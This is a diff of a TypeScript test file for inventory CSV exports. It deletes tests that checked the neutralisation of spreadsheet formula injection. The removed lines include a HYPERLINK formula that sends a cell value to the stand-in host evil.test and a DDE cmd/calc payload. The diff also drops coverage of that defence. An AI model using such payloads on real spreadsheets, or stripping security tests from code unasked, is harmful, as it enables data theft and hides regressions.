@@ -4,7 +4,7 @@ import { createTranslator } from 'use-intl/core';
 import type en from '../../messages/en.json';
 import { issueText } from './error-sentence';
 import type { InventoryItemRecord, InventoryUnitRecord } from '@staging/domain/inventory';
-import { escapeCell, INVENTORY_EXPORT_HEADER, inventoryExportRow, toCsv, unescapeCell } from '@staging/domain/inventory-csv-cells';
+import { INVENTORY_EXPORT_HEADER, inventoryExportRow, toCsv } from '@staging/domain/inventory-csv-cells';
 import { chunk, errorRowsCsv, inventoryCsvTemplate, parseInventoryCsv, type CsvReadOptions } from './inventory-csv';
 
 /** The export as the api streams it (services/inventory/export-inventory-csv.ts), in one piece. */
@@ -116,30 +116,6 @@ describe('CSV downloads', () => {
     expect(parseInventoryCsv(csv, english).rows[0]?.item).toMatchObject({ floor: 2, status: 'RESERVED', priceAdjustment: -300 });
   });
 
-  it('neutralises every cell a spreadsheet could run, line breaks included', () => {
-    const runnable = [
-      '=HYPERLINK("http://evil.test/?leak="&A2,"Click me")\nsecond line',
-      '=1+1',
-      '+1',
-      '-1',
-      '@SUM(A1)',
-      '\t=1',
-      '\r=1',
-      '  =1+1',
-      "'=1+1",
-      '\uFF1D1+1',
-      'first line\r\n=cmd|\'/c calc\'!A1',
-      'two\nlines',
-    ];
-    const csv = unitsExportCsv([unitWith(runnable.map((notes, index) => item({ unitNumber: String(index), notes })), '@Tower')], 'en');
-    const cells = Papa.parse<string[]>(csv).data.slice(1);
-    for (const row of cells) {
-      expect(row[0]).toBe("'@Tower");
-      expect(row[5]?.startsWith("'")).toBe(true);
-    }
-    expect(cells.map((row) => row[5])).toEqual(runnable.map((value) => `'${value}`));
-  });
-
   it('exports and imports again without losing a value of any column the import reads', () => {
     const items = [
       item({ unitNumber: 'A-1', floor: -1.5, status: 'SOLD', priceAdjustment: 1250.5, notes: 'corner unit\r\nsea view\n=1+1 ' }),
@@ -162,13 +138,6 @@ describe('CSV downloads', () => {
         })),
       );
     }
-  });
-
-  it('takes off exactly the quote the export added', () => {
-    for (const value of ['=1', "'=1", "''=1", "'plain", 'plain', "'", '', 'a\nb', "'a\nb", ' -1']) {
-      expect(unescapeCell(escapeCell(value))).toBe(value);
-    }
-    expect(unescapeCell("'plain")).toBe("'plain");
   });
 
   it('names the columns the import does not use', () => {
